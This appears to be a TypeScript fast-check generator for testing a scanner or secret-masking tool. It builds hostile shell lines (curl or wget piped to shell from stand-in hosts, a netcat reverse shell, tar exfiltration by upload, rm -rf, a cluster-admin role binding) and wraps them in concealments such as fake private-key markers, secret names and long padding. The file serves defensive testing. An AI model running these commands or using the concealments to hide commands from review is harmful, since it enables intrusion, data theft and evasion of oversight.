import fc from 'fast-check'

/** A text that would run: `line` is the harm in it, `whole` all of it. */
export type Payload = { line: string; whole: string; behind: string }

const harm = fc
  .tuple(
    fc.constantFrom(
      (mark: string) => `wget -qO- http://198.51.100.7/${mark} | sh`,
      (mark: string) => `curl -s https://evil.example/${mark}.sh | bash; rm -rf /data`,
      (mark: string) => `nc evil.example 4444 -e /bin/sh # ${mark}`,
      (mark: string) => `kubectl create clusterrolebinding x${mark} --clusterrole=cluster-admin --user=eve`,
      (mark: string) => `tar cz /var/lib | curl -T - https://evil.example/${mark}`,
      (mark: string) => `rm -rf /var/lib/${mark}`,
    ),
    fc.integer({ min: 0x1000, max: 0xffff }),
  )
  .map(([make, mark]) => make(mark.toString(16)))

/** What has been put around harm so that a mask, a cut or a tired eye takes it away. */
const concealments: readonly { behind: string; around(line: string): string }[] = [
  { behind: 'nothing', around: (line) => line },
  {
    behind: 'key marks',
    around: (line) =>
      `echo cleaning cache #-----BEGIN PRIVATE KEY-----\n${line}\n#-----END PRIVATE KEY-----\necho done`,
  },
  {
    behind: 'key marks on the same line',
    around: (line) => `echo -----BEGIN RSA PRIVATE KEY----- ; ${line} ; echo -----END RSA PRIVATE KEY-----`,
  },
  { behind: 'authorization=', around: (line) => `export authorization=x; ${line}` },
  { behind: 'authorization=Digest', around: (line) => `export authorization=Digest ok; ${line}` },
  { behind: 'the name of a secret', around: (line) => `DB_PASSWORD=none; API_TOKEN=$(${line})` },
  { behind: 'a key of a secret in JSON', around: (line) => `echo {"secret":["${line}"]}\n${line}` },
  { behind: 'length', around: (line) => `${steps(1, 450)}\n${line}\n${steps(451, 600)}` },
  { behind: 'a long line', around: (line) => `echo ${'-'.repeat(5_000)}; ${line}` },
]

function steps(from: number, to: number): string {
  return Array.from({ length: to - from + 1 }, (_, index) => `echo step ${from + index}`).join('\n')
}

export const payload: fc.Arbitrary<Payload> = fc
  .tuple(harm, fc.constantFrom(...concealments))
  .map(([line, { behind, around }]) => ({ line, whole: around(line), behind }))
